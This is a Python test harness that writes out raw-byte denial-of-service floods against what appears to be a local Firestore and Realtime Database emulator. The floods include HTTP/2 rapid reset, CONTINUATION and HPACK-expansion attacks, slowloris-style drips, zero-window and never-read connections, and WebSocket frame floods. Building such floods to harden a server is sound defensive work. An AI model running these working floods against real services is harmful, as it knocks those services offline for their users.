"""The kinds of floods of floods.py: the bytes that each kind of abusive client sends.

A flood is a function that keeps one connection busy until a point in time. It raises OSError once the server has ended the
connection. Everything is sent as raw bytes, because well-behaved libraries cannot send it.
"""

import base64
import itertools
import json
import socket
import time

from google.cloud.firestore_v1.types import GetDocumentRequest, ListenRequest, RunQueryRequest, StructuredQuery, Target

DATABASE = "projects/demo-floods/databases/(default)"
SERVICE = "/google.firestore.v1.Firestore/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """An HPACK header that is not added to the dynamic table; lengths below 127."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(method):
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "localhost"),
             ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", "Bearer owner")]
    return b"".join(literal(name, value) for name, value in pairs)


def message(request):
    body = type(request).serialize(request)
    return b"\0" + len(body).to_bytes(4, "big") + body


def get_message(document):
    return message(GetDocumentRequest(name=f"{DATABASE}/documents/floods/{document}"))


# The number of addresses that attackers use in turn.
addresses = 1
numbers = itertools.count()


class Peer:
    """A raw connection. `drain` raises when it ends or receives GOAWAY."""

    def __init__(self, port, http2=True, settings=b"", reads=True, window=None):
        self.socket = socket.socket()
        self.reads = reads
        self.frames = b"" if http2 else None
        self.looked = time.monotonic()
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # A send that blocks is delayed by the server, not disconnected.
        self.socket.settimeout(60)
        # Attackers have addresses of their own: the server weighs the memory of the connections of an address together.
        # The port is chosen at `connect`: the search of `bind` takes most of the machine's time with thousands of connections.
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.socket.bind((f"127.0.0.{2 + next(numbers) % addresses}", 0))
        self.socket.connect(("127.0.0.1", port))
        if http2:
            # The server's settings, with more than 100 streams, apply once they are acknowledged.
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
            if window:
                self.send(frame(WINDOW, 0, 0, window.to_bytes(4, "big")))

    def close(self):
        self.socket.close()

    def send(self, data):
        self.socket.sendall(data)

    def send_some(self, data):
        """Sends as much as the socket accepts within a short time. Returns the rest."""
        self.socket.settimeout(0.2)
        try:
            return data[self.socket.send(data):]
        except TimeoutError:
            return data
        finally:
            self.socket.settimeout(60)

    def drain(self):
        """Reads the received bytes. Raises once the connection has ended."""
        if not self.reads:
            if time.monotonic() > self.looked + 1:
                self.looked = time.monotonic()
                if not self.is_held():
                    raise ConnectionResetError("closed")
            return
        self.socket.setblocking(False)
        try:
            while True:
                got = self.socket.recv(1 << 16)
                if not got:
                    raise ConnectionResetError("closed")
                if self.frames is not None:
                    self.look_for_goaway(got)
        except BlockingIOError:
            pass
        finally:
            self.socket.settimeout(60)


    def is_held(self):
        """Whether the server keeps its end open. A peer that does not read is not notified of the end."""
        ours, theirs = (f":{name[1]:04X}" for name in (self.socket.getsockname(), self.socket.getpeername()))
        with open("/proc/net/tcp") as connections:
            fields = (line.split()[1:4] for line in connections)
            return any(local.endswith(theirs) and remote.endswith(ours) and state in ("01", "08")
                       for local, remote, state in fields)

    def look_for_goaway(self, got):
        self.frames += got
        while len(self.frames) >= 9:
            length = int.from_bytes(self.frames[:3], "big")
            if len(self.frames) < 9 + length:
                return
            if self.frames[3] == GOAWAY:
                code, text = self.frames[13 + 3], self.frames[17:9 + length].decode()
                raise ConnectionResetError(f"GOAWAY {code}: {text}")
            self.frames = self.frames[9 + length:]


def repeated(make, per_batch=50, pause=0, product="firestore", **options):
    """A flood over HTTP/2 of the bytes that `make` returns for each odd stream ID."""
    def flood(ports, until):
        peer, stream = Peer(getattr(ports, product), **options), 1
        try:
            while time.monotonic() < until and stream < 1 << 31:
                batch = b"".join(make(number) for number in range(stream, stream + 2 * per_batch, 2))
                stream += 2 * per_batch
                peer.send(batch)
                peer.drain()
                if pause:
                    time.sleep(pause)
        finally:
            peer.close()
    return flood


def open_stream(method="GetDocument"):
    return frame(HEADERS, 4, 1, request_headers(method))


def on_stream(make, **options):
    """A flood of one kind of frame on one open stream."""
    return repeated(lambda stream: (open_stream() if stream == 1 else b"") + make, **options)


def reset_pair(stream):
    return (frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(RESET, 0, stream, (8).to_bytes(4, "big")))


def asked_reset(stream):
    """A complete request, followed by its reset."""
    return (frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(DATA, 1, stream, LARGE) +
            frame(RESET, 0, stream, (8).to_bytes(4, "big")))


def begun_reset(method, request, ends=True, pause=0.005, per_batch=50):
    """A flood of calls that are reset shortly after they have started."""
    headers = request_headers(method)

    def flood(ports, until):
        peer, stream = Peer(ports.firestore), 1
        try:
            while time.monotonic() < until and stream < 1 << 30:
                streams = range(stream, stream + 2 * per_batch, 2)
                stream += 2 * per_batch
                peer.send(b"".join(frame(HEADERS, 4, each, headers) + frame(DATA, 1 if ends else 0, each, request)
                                   for each in streams))
                time.sleep(pause)
                peer.drain()
                peer.send(b"".join(frame(RESET, 0, each, (8).to_bytes(4, "big")) for each in streams))
                peer.drain()
        finally:
            peer.close()
    return flood


def asked_reset_by_rest(path):
    """A complete REST request, followed by its reset."""
    headers = b"".join(literal(name, value) for name, value in [
        (":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("authorization", "Bearer owner")])
    return lambda stream: frame(HEADERS, 5, stream, headers) + frame(RESET, 0, stream, (8).to_bytes(4, "big"))


def provoked(stream):
    """A stream that the server must reset: a WINDOW_UPDATE of zero."""
    return frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(WINDOW, 0, stream, bytes(4))


HEADERS_OF_GET = request_headers("GetDocument")


def continuation(ports, until):
    peer = Peer(ports.firestore)
    try:
        peer.send(frame(HEADERS, 0, 1, HEADERS_OF_GET))
        while time.monotonic() < until:
            peer.send(frame(CONTINUATION, 0, 1, literal("x-" + "a" * 20, "b" * 100) * 8))
            peer.drain()
    finally:
        peer.close()


def huge_headers(stream):
    """A header block that expands: it references one table entry many times."""
    entry = b"\x40" + b"\x05x-big" + b"\x7f\x81\x1e" + b"v" * 4_000  # into the dynamic table, 62
    return frame(HEADERS, 4, stream, HEADERS_OF_GET + entry + b"\xbe" * 12_000)


def open_calls(most, message=None, reads=True, settings=b"", window=None, method="GetDocument", ends=True):
    """Opens calls, with or without their requests, and leaves them open."""
    headers = request_headers(method)

    def flood(ports, until):
        peer, stream, rest = Peer(ports.firestore, settings=settings, reads=reads, window=window), 1, b""
        try:
            while time.monotonic() < until:
                if not rest and stream < 2 * most:
                    for _ in range(20):
                        rest += frame(HEADERS, 4, stream, headers)
                        if message:
                            rest += frame(DATA, 1 if ends else 0, stream, message)
                        stream += 2
                if rest:
                    rest = peer.send_some(rest)
                else:
                    time.sleep(0.05)
                peer.drain()
        finally:
            peer.close()
    return flood


def window_setting(size):
    return (4).to_bytes(2, "big") + size.to_bytes(4, "big")


def unread(of, request):
    """Requests large responses over HTTP/1.1, one after the other, and reads nothing."""
    def flood(ports, until):
        peer, rest = Peer(getattr(ports, of), http2=False, reads=False), request * 200
        try:
            while time.monotonic() < until:
                if rest:
                    rest = peer.send_some(rest)
                else:
                    time.sleep(0.2)
                peer.drain()
        finally:
            peer.close()
    return flood


def ask_and_go(of, request):
    """Repeatedly requests a large response over HTTP/1.1 and closes the connection immediately."""
    def flood(ports, until):
        while time.monotonic() < until:
            peer = Peer(getattr(ports, of), http2=False)
            peer.send(request)
            peer.close()
    return flood


def drip(of, beginning, piece=b"a", pause=0.25, http2=False):
    """Sends a start, and then single bytes slowly."""
    def flood(ports, until):
        peer = Peer(getattr(ports, of), http2=http2)
        try:
            peer.send(beginning)
            while time.monotonic() < until:
                peer.send(piece)
                time.sleep(pause)
                peer.drain()
        finally:
            peer.close()
    return flood


def pour(of, beginning, piece):
    """Sends a start, and then repeats the same bytes as fast as the server reads."""
    def flood(ports, until):
        peer, batch = Peer(getattr(ports, of), http2=False), piece * (16_384 // len(piece))
        try:
            peer.send(beginning)
            while time.monotonic() < until:
                peer.send(batch)
                peer.drain()
        finally:
            peer.close()
    return flood


UPGRADE = (b"GET /.ws?v=5&ns=demo-floods HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n")


def masked(opcode, payload, fin=True):
    """A WebSocket frame with a mask of zeros; below 126 bytes."""
    return bytes([(0x80 if fin else 0) | opcode, 0x80 | len(payload)]) + bytes(4) + payload


LISTEN = masked(1, b'{"t":"d","d":{"r":1,"a":"g","b":{"p":"/large","q":{}}}}')


def requests(make, batch=50):
    """A flood of requests over a WebSocket, whose responses are read. `make` returns action and body for each number."""
    def text(number):
        action, body = make(number)
        data = json.dumps({"t": "d", "d": {"r": number, "a": action, "b": body}}).encode()
        head = bytes([0x81, 0x80 | len(data)]) if len(data) < 126 else b"\x81\xfe" + len(data).to_bytes(2, "big")
        return head + bytes(4) + data

    def flood(ports, until):
        peer, number = Peer(ports.database, http2=False), 1
        try:
            peer.send(UPGRADE + b"\r\n")
            while time.monotonic() < until:
                peer.send(b"".join(text(each) for each in range(number, number + batch)))
                number += batch
                peer.drain()
        finally:
            peer.close()
    return flood


def unread_events(ports, until):
    """Listens to a value, changes it over another connection, and never reads the events."""
    reader, writer = Peer(ports.database, http2=False, reads=False), Peer(ports.database, http2=False)
    body = b'"' + b"x" * 200_000 + b'"'
    request = b"PUT /changing.json?ns=demo-floods&print=silent HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n"
    try:
        reader.send(b"GET /changing.json?ns=demo-floods HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n\r\n")
        while time.monotonic() < until:
            writer.send(request % len(body) + body)
            time.sleep(0.01)
            writer.drain()
            reader.drain()
    finally:
        reader.close()
        writer.close()


def long_poll_once(ports, target):
    """Sends a request of long polling on a connection of its own. Returns the response."""
    peer = Peer(ports.database, http2=False)
    try:
        peer.send(f"GET /.lp?{target}&ns=demo-floods HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        response = b""
        while got := peer.socket.recv(1 << 16):
            response += got
        return response.decode()
    finally:
        peer.close()


def unread_long_poll(ports, until):
    """Opens sessions of long polling with seven listens to 1 MB, and polls each of them once: its response has one of the seven."""
    segments = ""
    for number in range(7):
        text = json.dumps({"t": "d", "d": {"r": number, "a": "q", "b": {
            "p": "/", "h": "", "q": {"l": number + 1}, "t": number + 1}}})
        encoded = base64.urlsafe_b64encode(text.encode()).decode().replace("=", ".")
        segments += f"&seg{number}={number}&ts{number}=1&d{number}={encoded}"
    while time.monotonic() < until:
        parts = long_poll_once(ports, "start=t&ser=1&cb=1&v=5").split("'")
        long_poll_once(ports, f"id={parts[3]}&pw={parts[5]}&ser=2{segments}")
        time.sleep(0.05)


def idle(ports, until):
    """Keeps 100 connections open that send nothing after their first request."""
    peers = []
    try:
        for _ in range(100):
            peer = Peer(ports.firestore, http2=False)
            peer.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            peers.append(peer)
        while time.monotonic() < until:
            time.sleep(0.5)
            for peer in peers:
                peer.drain()
    finally:
        for peer in peers:
            peer.close()


def sink(ports, until):
    """Sends to a process that discards everything, to measure the attackers' own share of the machine."""
    peer, stream = Peer(ports.sink), 1
    try:
        while time.monotonic() < until:
            batch = b"".join(reset_pair(number) for number in range(stream, stream + 100, 2))
            stream += 100
            peer.send(batch)
            peer.drain()
    finally:
        peer.close()


LARGE = get_message("large")
PARENT = f"{DATABASE}/documents"


def query(collection):
    return StructuredQuery(from_=[StructuredQuery.CollectionSelector(collection_id=collection)])


def query_message(collection):
    return message(RunQueryRequest(parent=PARENT, structured_query=query(collection)))


def listen_message(collection):
    return message(ListenRequest(database=DATABASE, add_target=Target(
        query=Target.QueryTarget(parent=PARENT, structured_query=query(collection)), target_id=1)))


def rest_query(collection):
    body = json.dumps({"structuredQuery": {"from": [{"collectionId": collection}]}})
    return (f"POST /v1/{PARENT}:runQuery HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n\r\n{body}").encode()


QUERY = query_message("many")
LISTEN_TO_MANY = listen_message("many")
REST_LARGE = f"GET /v1/{DATABASE}/documents/floods/large HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
RTDB_LARGE = b"GET /large.json?ns=demo-floods HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNKED = b"PUT /text.json?ns=demo-floods HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n\"\r\n"
CHUNKED_COMMIT = (f"POST /v1/{DATABASE}/documents:commit HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
                  "1\r\n{\r\n").encode()

# Each kind with its number of concurrent attackers.
FLOODS = {
    "none: a sink beside the server": (sink, 8),
    "rapid reset": (repeated(reset_pair), 8),
    "rapid reset of whole requests": (repeated(asked_reset), 8),
    "rapid reset of whole REST requests": (
        repeated(asked_reset_by_rest(f"/v1/{DATABASE}/documents/floods/large")), 8),
    "rapid reset of whole Realtime REST requests": (
        repeated(asked_reset_by_rest("/large.json?ns=demo-floods"), product="database"), 8),
    "resets of begun calls for 1 MB": (begun_reset("GetDocument", LARGE), 8),
    "resets of begun queries of 3,000": (begun_reset("RunQuery", QUERY), 8),
    "resets of begun listens to 3,000": (begun_reset("Listen", LISTEN_TO_MANY, ends=False, pause=0.01), 8),
    "provoked resets": (repeated(provoked), 8),
    "PING": (on_stream(frame(PING, 0, 0, bytes(8))), 8),
    "SETTINGS": (on_stream(frame(SETTINGS, 0, 0)), 8),
    "PRIORITY": (on_stream(frame(PRIORITY, 0, 1, b"\0\0\0\x03\1")), 8),
    "WINDOW_UPDATE": (on_stream(frame(WINDOW, 0, 1, b"\0\0\0\1")), 8),
    "frames of no known type": (on_stream(frame(0x42, 0, 0)), 8),
    "empty DATA": (on_stream(frame(DATA, 0, 1)), 8),
    "DATA of one byte": (on_stream(frame(DATA, 0, 1, b"\0")), 8),
    "CONTINUATION": (continuation, 8),
    "header lists that unfold": (repeated(huge_headers, per_batch=1), 8),
    "calls without a request": (open_calls(900), 8),
    "zero window": (open_calls(900, LARGE, settings=window_setting(0)), 8),
    "gRPC, never reads": (open_calls(900, LARGE, reads=False, settings=window_setting(1 << 30), window=1 << 30), 32),
    "REST, never reads": (unread("firestore", REST_LARGE), 32),
    "Realtime REST, never reads": (unread("database", RTDB_LARGE), 32),
    "listens to 2 MB, never read": (open_calls(100, listen_message("medium"), reads=False, method="Listen", ends=False), 10),
    "listens on one connection, never read": (
        open_calls(900, listen_message("medium"), reads=False, method="Listen", ends=False), 1),
    "listens to documents of 0.9 MB, never read": (
        open_calls(50, listen_message("huge"), reads=False, method="Listen", ends=False), 120),
    "queries of 2 MB, never read": (open_calls(100, query_message("medium"), reads=False, method="RunQuery"), 10),
    "queries for documents of 0.9 MB, never read": (
        open_calls(50, query_message("huge"), reads=False, method="RunQuery"), 120),
    "REST queries of 2 MB, never read": (unread("firestore", rest_query("medium")), 100),
    "REST queries of 18 MB, never read": (unread("firestore", rest_query("huge")), 100),
    "REST, asks and goes": (ask_and_go("firestore", REST_LARGE), 8),
    "Realtime REST, asks and goes": (ask_and_go("database", RTDB_LARGE), 8),
    "WebSocket, never reads": (unread("database", UPGRADE + b"\r\n" + LISTEN * 50), 32),
    "event stream, never reads": (unread_events, 4),
    "long polling, never polls again": (unread_long_poll, 32),
    "silent within the preface of HTTP/2": (drip("firestore", b"PRI * HT", piece=b""), 200),
    "slow head": (drip("firestore", b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "), 200),
    "slow upgrade": (drip("database", UPGRADE + b"X-Slow: "), 200),
    "slow body": (drip("firestore", CHUNKED_COMMIT, piece=b"1\r\n \r\n"), 200),
    "slow body, Realtime": (drip("database", CHUNKED, piece=b"1\r\nx\r\n"), 200),
    "slow headers of HTTP/2": (
        drip("firestore", frame(HEADERS, 0, 1, HEADERS_OF_GET) + b"\0\x03\xe8\x09\4\0\0\0\1", http2=True), 200),
    "chunks of one byte": (pour("database", CHUNKED, b"1\r\nx\r\n"), 8),
    "WebSocket pings": (pour("database", UPGRADE + b"\r\n", masked(9, b"")), 8),
    "WebSocket, empty frames": (
        pour("database", UPGRADE + b"\r\n" + masked(1, b"", fin=False), masked(0, b"", fin=False)), 8),
    "WebSocket, frames of one byte": (
        pour("database", UPGRADE + b"\r\n" + masked(1, b"x", fin=False), masked(0, b"x", fin=False)), 8),
    "WebSocket, credentials": (requests(lambda number: ("auth", {"cred": "owner"})), 8),
    "WebSocket, puts with a wrong hash": (requests(lambda number: ("p", {"p": "/small", "d": 1, "h": "wrong"})), 8),
    "WebSocket, onDisconnect": (requests(lambda number: ("o", {"p": f"/ends/{number}", "d": 1})), 8),
    "WebSocket, stats": (requests(lambda number: ("s", {"c": {"sdk.js.1": 1}})), 8),
    "idle connections, 100 each": (idle, 180),
}
